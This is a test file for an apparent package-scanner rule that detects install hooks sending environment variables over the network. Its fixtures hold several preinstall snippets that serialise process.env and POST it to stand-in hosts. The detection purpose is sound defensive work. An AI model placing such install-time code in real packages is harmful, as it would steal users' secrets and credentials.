import { expect, test } from 'vitest';
import { manifest } from '../samples-kit.ts';
import { analyzeSample, describeSamples } from '../testing/samples-suite.ts';
import { samples } from './samples.ts';

describeSamples('env-to-network', samples);

test.each([
  [
    `const r = https.request('https://a.weir.test/v1/env', { method: 'POST' });\nr.write(data);`,
    'url https://a.weir.test/v1/env',
  ],
  [
    `const o = { hostname: 'a.weir.test', method: 'POST' };\nconst r = https.request(o);\nr.end(data);`,
    'domain a.weir.test',
  ],
  [
    `const to = new URL('https://a.weir.test/in');\nhttps.request(to).end(data);`,
    'url https://a.weir.test/in',
  ],
  [`const to = 'https://a.weir.test/in';\nfetch(to, { body: data });`, 'url https://a.weir.test/in'],
  [`https.request({ host: '203.0.113.7', port: 80 }).end(data);`, 'ip 203.0.113.7'],
])('tells where the data goes: %s', async (code, indicator) => {
  const result = await analyzeSample({
    name: 'indicators',
    files: {
      'package.json': manifest({ scripts: { preinstall: 'node setup.js' } }),
      'setup.js': `const https = require('https');\nconst data = JSON.stringify(process.env);\n${code}\n`,
    },
    expected: [],
  });
  const [finding] = result.findings;

  expect(finding?.rule).toBe('env-to-network/environment');
  expect(finding?.indicators.map(({ type, value }) => `${type} ${value}`)).toContain(indicator);
  expect(finding?.snippet).toContain('data');
});
